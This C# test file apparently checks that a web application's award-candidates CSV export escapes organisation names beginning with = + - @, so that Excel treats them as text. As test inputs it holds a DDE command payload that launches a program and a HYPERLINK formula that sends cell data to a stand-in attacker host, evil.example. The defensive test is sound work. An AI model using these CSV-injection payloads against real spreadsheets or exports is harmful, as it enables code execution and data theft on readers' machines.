using System.Net;
using System.Text;
using Microsoft.EntityFrameworkCore;
using Pmqa.Web.Tests.Infrastructure;

namespace Pmqa.Web.Tests.Features.Limits;

/// <summary>
/// An organisation's name is typed by people outside OPDC; the award CSV is opened by OPDC in Excel. A name
/// beginning with = + - @ must reach the spreadsheet as text, never as a formula that runs on the reader's machine.
/// </summary>
public abstract class CsvInjectionTests(PmqaApp app)
{
    [Fact]
    public async Task Formula_names_are_written_as_text_in_the_award_candidates_CSV()
    {
        var admin = await app.AdminApiAsync();
        var org = await admin.OrganizationAsync();
        const string dde = "=cmd|' /C calc'!A0";
        const string link = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
        await app.WithDbAsync(async db =>
        {
            var row = await db.Organizations.SingleAsync(o => o.Id == org.Id);
            row.NameTh = dde;
            row.NameEn = link;
            return await db.SaveChangesAsync();
        });
        var round = await admin.OpenRoundAsync();
        var assessments = await (await admin.GetAsync($"/api/v1/organizations/{org.Id}/assessments")).JsonAsync();
        var assessment = assessments.EnumerateArray().Single(a => a.GetProperty("roundId").GetGuid() == round).GetProperty("id").GetGuid();
        await app.CertifyAsync(assessment);

        var response = await admin.GetAsync($"/api/v1/rounds/{round}/award-candidates?format=csv");

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        var text = Encoding.UTF8.GetString(await response.Content.ReadAsByteArrayAsync());
        var cells = text.Split('\n').Where(l => l.Contains(org.Code)).SelectMany(l => l.Split(',')).Select(c => c.Trim('"', '\r')).ToList();
        Assert.NotEmpty(cells);
        Assert.DoesNotContain(cells, c => c.Length > 0 && "=+-@".Contains(c[0]));
        Assert.Contains("'=cmd|' /C calc'!A0", text);
        Assert.Contains("'=HYPERLINK(", text);
    }
}

public sealed class CsvInjectionTests_Sqlite(SqliteApp app) : CsvInjectionTests(app), IClassFixture<SqliteApp>;
public sealed class CsvInjectionTests_Postgres(PostgresApp app) : CsvInjectionTests(app), IClassFixture<PostgresApp>;
